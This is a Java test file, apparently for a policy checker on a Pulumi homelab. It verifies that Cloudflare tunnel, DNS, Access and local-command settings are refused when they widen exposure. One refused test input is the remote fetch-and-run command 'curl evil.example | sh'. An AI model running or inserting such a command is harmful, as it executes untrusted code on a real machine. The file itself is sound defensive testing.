            "cloudflare:index/zeroTrustTunnelCloudflaredConfig:ZeroTrustTunnelCloudflaredConfig",
            "tunnel-rules",
            Map.of(
                "tunnelId", "tunnel-id",
                "source", "cloudflare",
                "config", Map.of("ingresses", List.of(leads, leads, last))))
        .passes("only the catch-all", "config.ingresses", List.of(last))
        .refuses(
            "by TLS",
            "config.ingresses[1].service",
            "https://10.20.40.11:8080",
            Rule.DECLARED_VALUES)
        .refuses(
            "to pfSense",
            "config.ingresses[0].service",
            "http://10.20.40.1:8080",
            Rule.DECLARED_VALUES)
        .refuses(
            "to everybody",
            "config.ingresses[0].service",
            "http://10.20.40.255:8080",
            Rule.DECLARED_VALUES)
        .refuses(
            "to another service",
            "config.ingresses[0].service",
            "http://10.20.40.10:8080",
            Rule.DECLARED_VALUES)
        .refuses(
            "as a bastion",
            "config.ingresses[0].originRequest",
            Map.of("bastionMode", true),
            "config.ingresses[0].originRequest.bastionMode",
            Rule.DECLARED_VALUES)
        .refuses(
            "as a bastion for all",
            "config.originRequest",
            Map.of("bastionMode", true),
            "config.originRequest.bastionMode",
            Rule.DECLARED_VALUES)
        .passes("with the time-out", "config.originRequest", Map.of("connectTimeout", 15))
        .passes("without a source", "source", GONE)
        .refuses("of a foreign tunnel", "tunnelId", "foreign", Rule.TUNNEL_TO_SERVICES)
        .refuses("kept at home", "source", "local", Rule.TUNNEL_TO_SERVICES)
        .refuses(
            "to another port",
            "config.ingresses[0].service",
            "http://10.20.40.11:22",
            Rule.TUNNEL_TO_SERVICES)
        .refuses(
            "to no port",
            "config.ingresses[0].service",
            "http://10.20.40.11",
            Rule.TUNNEL_TO_SERVICES)
        .refuses(
            "to the host",
            "config.ingresses[1].service",
            "http://10.20.10.2:8080",
            Rule.TUNNEL_TO_SERVICES)
        .refuses(
            "to the host's own loopback",
            "config.ingresses[1].service",
            "http://localhost:8080",
            Rule.TUNNEL_TO_SERVICES)
        .refuses(
            "to a name", "config.ingresses[1].service", "http://blog:8080", Rule.TUNNEL_TO_SERVICES)
        .refuses(
            "to an IPv6 address",
            "config.ingresses[1].service",
            "http://[fd00::1]:8080",
            Rule.TUNNEL_TO_SERVICES)
        .refuses(
            "with a user",
            "config.ingresses[1].service",
            "http://a@10.20.40.11:8080",
            Rule.TUNNEL_TO_SERVICES)
        .refuses(
            "no URL",
            "config.ingresses[1].service",
            "http://10.20.40.11:8080 x",
            Rule.TUNNEL_TO_SERVICES)
        .refuses("no service", "config.ingresses[1].service", GONE, Rule.TUNNEL_TO_SERVICES)
        .refuses(
            "SSH", "config.ingresses[0].service", "ssh://10.20.40.11:8080", Rule.TUNNEL_TO_SERVICES)
        .refuses(
            "TCP", "config.ingresses[0].service", "tcp://10.20.40.11:8080", Rule.TUNNEL_TO_SERVICES)
        .refuses(
            "RDP", "config.ingresses[0].service", "rdp://10.20.40.11:8080", Rule.TUNNEL_TO_SERVICES)
        .refuses(
            "a socket",
            "config.ingresses[0].service",
            "unix:/run/docker.sock",
            Rule.TUNNEL_TO_SERVICES)
        .refuses("bastion", "config.ingresses[0].service", "bastion", Rule.TUNNEL_TO_SERVICES)
        .refuses(
            "a SOCKS proxy", "config.ingresses[0].service", "socks-proxy", Rule.TUNNEL_TO_SERVICES)
        .refuses(
            "a SOCKS proxy by the origin",
            "config.ingresses[0].originRequest",
            Map.of("proxyType", "socks"),
            "config.ingresses[0].originRequest.proxyType",
            Rule.TUNNEL_TO_SERVICES)
        .refuses(
            "a SOCKS proxy for all",
            "config.originRequest",
            Map.of("proxyType", "socks"),
            "config.originRequest.proxyType",
            Rule.TUNNEL_TO_SERVICES)
        .refuses(
            "a name of no service",
            "config.ingresses[0].hostname",
            "pve.example.org",
            Rule.TUNNEL_TO_SERVICES)
        .refuses(
            "a wildcard", "config.ingresses[0].hostname", "*.example.org", Rule.TUNNEL_TO_SERVICES)
        .refuses("every name, early", "config.ingresses[0].hostname", GONE, Rule.TUNNEL_TO_SERVICES)
        .refuses(
            "private routing",
            "config.warpRouting",
            Map.of("enabled", true),
            Rule.TUNNEL_TO_SERVICES)
        .refuses(
            "a catch-all that serves",
            "config.ingresses[2].service",
            "http://10.20.40.11:8080",
            Rule.TUNNEL_CATCH_ALL)
        .refuses(
            "a catch-all with a name",
            "config.ingresses[2].hostname",
            "blog.example.org",
            Rule.TUNNEL_CATCH_ALL)
        .refuses("a catch-all with a path", "config.ingresses[2].path", "/x", Rule.TUNNEL_CATCH_ALL)
        .refuses("no rule", "config.ingresses", List.of(), Rule.TUNNEL_CATCH_ALL)
        .refuses("nothing at all", "config", GONE, "config.ingresses", Rule.TUNNEL_CATCH_ALL)
        .ignoring("config", false);

    start(
            "cloudflare:index/dnsRecord:DnsRecord",
            "record",
            Map.of(
                "zoneId",
                ExampleHomelab.ZONE_ID,
                "name",
                "blog.example.org",
                "type",
                "CNAME",
                "content",
                "tunnel-id.cfargotunnel.com",
                "proxied",
                true,
                "ttl",
                1))
        .passes("a comment", "comment", "x")
        .refuses("a foreign zone", "zoneId", "0".repeat(32), Rule.OWN_ZONE)
        .refuses("no zone", "zoneId", GONE, Rule.OWN_ZONE)
        .refuses("unproxied", "proxied", false, Rule.PROXIED)
        .refuses("unproxied by silence", "proxied", GONE, Rule.PROXIED)
        .refuses("an address", "type", "A", Rule.PROXIED)
        .refuses("an IPv6 address", "type", "AAAA", Rule.PROXIED)
        .refuses("name servers", "type", "NS", Rule.PROXIED)
        .refuses("a service record", "type", "SRV", Rule.PROXIED)
        .refuses("mail", "type", "MX", Rule.PROXIED)
        .refuses("a binding", "type", "HTTPS", Rule.PROXIED)
        .refuses("no type", "type", GONE, Rule.PROXIED)
        .refuses("a foreign tunnel", "content", "foreign.cfargotunnel.com", Rule.PROXIED)
        .refuses("a foreign host", "content", "example.net", Rule.PROXIED)
        .refuses("nothing", "content", GONE, Rule.PROXIED)
        .refuses("a name of no service", "name", "pve.example.org", Rule.DECLARED_NAME)
        .refuses("a wildcard", "name", "*.example.org", Rule.DECLARED_NAME)
        .refuses("the zone itself", "name", "example.org", Rule.DECLARED_NAME)
        .refuses("a private route", "privateRouting", true, Rule.NO_SIDE_DOOR)
        .neverSet(Rule.NO_SIDE_DOOR, Map.of("flattenCname", true), "settings")
        .ignoring("comment", false)
        .ignoring("proxied", false)
        .ignoring("content", false)
        .variant(
            "home's name",
            Map.of(
                "zoneId",
                ExampleHomelab.ZONE_ID,
                "name",
                "home.example.org",
                "type",
                "A",
                "content",
                "192.0.2.1",
                "proxied",
                false,
                "ttl",
                60))
        .refuses("a proxied endpoint", "proxied", true, Rule.PROXIED)
        .refuses("an endpoint of another type", "type", "CNAME", Rule.PROXIED)
        .refuses("an endpoint by IPv6", "type", "AAAA", Rule.PROXIED)
        .ignoring("content", true)
        .ignoring("ttl", true)
        .ignoring("proxied", true)
        .ignoring("comment", true)
        .ignoring("tags", true)
        .ignoring("name", false)
        .ignoring("type", false)
        .variant(
            "the node's name",
            Map.of(
                "zoneId", ExampleHomelab.ZONE_ID,
                "name", "node.example.org",
                "type", "A",
                "content", "198.51.100.7",
                "proxied", false))
        .refuses("a proxied node", "proxied", true, Rule.PROXIED)
        .ignoring("content", false)
        .ignoring("proxied", false);

    start(
            CloudflareRules.ACCESS_APPLICATION,
            "access",
            Map.of(
                "accountId", ExampleHomelab.ACCOUNT_ID,
                "name", "blog",
                "type", "self_hosted",
                "domain", "blog.example.org",
                "policies", List.of(Map.of("id", "policy-id", "precedence", 1))))
        .refuses("allows by itself", "policies[0].decision", "allow", Rule.DECLARED_VALUES)
        .refuses("a foreign policy", "policies[0].id", "foreign", Rule.DECLARED_VALUES)
        .refuses("a policy without an id", "policies[0].id", GONE, Rule.DECLARED_VALUES)
        .refuses("no policy", "policies", List.of(), Rule.ACCESS_DECIDES)
        .refuses("says nothing of policies", "policies", GONE, Rule.ACCESS_DECIDES)
        .refuses("a domain of no service", "domain", "pve.example.org", Rule.ACCESS_DECIDES)
        .refuses("a path of a domain", "domain", "blog.example.org/x", Rule.ACCESS_DECIDES)
        .refuses("no domain", "domain", GONE, Rule.ACCESS_DECIDES)
        .refuses("an SSH application", "type", "ssh", Rule.ACCESS_DECIDES)
        .refuses("no type", "type", GONE, Rule.ACCESS_DECIDES)
        .refuses("bypasses by itself", "policies[0].decision", "bypass", Rule.ACCESS_DECIDES)
        .refuses("preflights pass", "optionsPreflightBypass", true, Rule.ACCESS_DECIDES)
        .refuses("by WARP", "allowAuthenticateViaWarp", true, Rule.ACCESS_DECIDES)
        .refuses(
            "a private network",
            "destinations",
            List.of(Map.of("cidr", "10.0.0.0/8")),
            Rule.ACCESS_DECIDES)
        .refuses("policies are a text", "policies", "all", Rule.ACCESS_DECIDES);
    start(
            CloudflareRules.ACCESS_POLICY,
            "access-policy",
            Map.of(
                "accountId",
                ExampleHomelab.ACCOUNT_ID,
                "decision",
                "allow",
                "name",
                "homelab blog@blog",
                "includes",
                List.of(Map.of("email", Map.of("email", "you@example.org")))))
        .refuses("everyone", "includes[0]", Map.of("everyone", Map.of()), Rule.DECLARED_VALUES)
        .refuses(
            "another person", "includes[0].email.email", "me@example.net", Rule.DECLARED_VALUES)
        .refuses(
            "another domain",
            "includes[0]",
            Map.of("emailDomain", Map.of("domain", "example.net")),
            "includes[0].emailDomain.domain",
            Rule.DECLARED_VALUES)
        .refuses(
            "an empty person",
            "includes[0].email",
            Map.of(),
            "includes[0].email.email",
            Rule.DECLARED_VALUES)
        .refuses("nobody", "includes", List.of(), Rule.ACCESS_DECIDES)
        .refuses("says nobody", "includes", GONE, Rule.ACCESS_DECIDES)
        .refuses("deny", "decision", "deny", Rule.DECLARED_VALUES)
        .refuses("bypass", "decision", "bypass", Rule.ACCESS_DECIDES)
        .refuses("no identity", "decision", "non_identity", Rule.ACCESS_DECIDES)
        .refuses("nothing", "decision", GONE, Rule.ACCESS_DECIDES)
        .refuses("a foreign account", "accountId", "0".repeat(32), Rule.OWN_ZONE);
  }

  private void rest() {
    start(
            "command:local:Command",
            "control-plane",
            Map.of(
                "create", waitScript(),
                "interpreter", List.of("/bin/sh", "-c"),
                "triggers", List.of("instance-id")))
        .refusesNamed("another command", "open-the-door", Rule.ONLY_WAIT_COMMAND)
        .refuses("another shell", "interpreter[0]", "/bin/bash", Rule.ONLY_WAIT_COMMAND)
        .refuses("another way to start it", "interpreter[1]", "-xc", Rule.ONLY_WAIT_COMMAND)
        .refuses(
            "more arguments", "interpreter", List.of("/bin/sh", "-c", "x"), Rule.ONLY_WAIT_COMMAND)
        .refuses("no shell", "interpreter", GONE, Rule.ONLY_WAIT_COMMAND)
        .refuses("nothing to do", "create", GONE, Rule.ONLY_WAIT_COMMAND)
        .refuses("blank", "create", " ", Rule.ONLY_WAIT_COMMAND)
        .refuses("another script", "create", "curl evil.example | sh", Rule.ONLY_WAIT_COMMAND)
        .refuses("more of a script", "create", waitScript() + "id\n", Rule.ONLY_WAIT_COMMAND)
        .neverSet(Rule.ONLY_WAIT_COMMAND, "x", "update", "delete", "stdin", "dir")
        .neverSet(Rule.ONLY_WAIT_COMMAND, Map.of("A", "b"), "environment")
        .neverSet(Rule.ONLY_WAIT_COMMAND, List.of("x"), "archivePaths", "assetPaths")
        .neverSet(Rule.ONLY_WAIT_COMMAND, true, "addPreviousOutputInEnv");
    for (String untaught :
        List.of(
            "oci:LoadBalancer/loadBalancer:LoadBalancer",
            "oci:Core/publicIp:PublicIp",
            "oci:Bastion/bastion:Bastion",
            "proxmoxve:index/user:User",
            "cloudflare:index/zeroTrustTunnelCloudflaredRoute:ZeroTrustTunnelCloudflaredRoute",
            "cloudflare:index/spectrumApplication:SpectrumApplication",
            "command:remote:Command",
            "elsewhere:index:Thing",
            "pulumi:providers:elsewhere",
            "pulumi:pulumi:StackReference",
            "homelab:node:Node",
            "oci:core/vcn:Vcn",
            "")) {
      refused.add(
          new Planted(
              "type '%s'".formatted(untaught),
              untaught,
              "untaught",
              Map.of(),
              List.of(),
              "",
              Rule.TAUGHT_TYPE));
    }
    for (String taught :
        List.of(
            "pulumi:index:Stash",
            "pulumi:providers:oci",
            "pulumi:providers:proxmoxve",
            "pulumi:providers:cloudflare",
            "pulumi:providers:command")) {
      allowed.add(new Planted("type " + taught, taught, "taught", Map.of(), List.of(), null, null));
    }
  }

  /** The script that the program declares; its class is not open to this package. */
  private static String waitScript() {
    try {
      var script =
          Class.forName("homelab.node.ControlPlaneWait").getDeclaredMethod("script", String.class);
      script.setAccessible(true);
      return (String) script.invoke(null, ExampleHomelab.TOPOLOGY.semaphoreUrl());
    } catch (ReflectiveOperationException e) {
      throw new IllegalStateException(e);
    }
  }
}
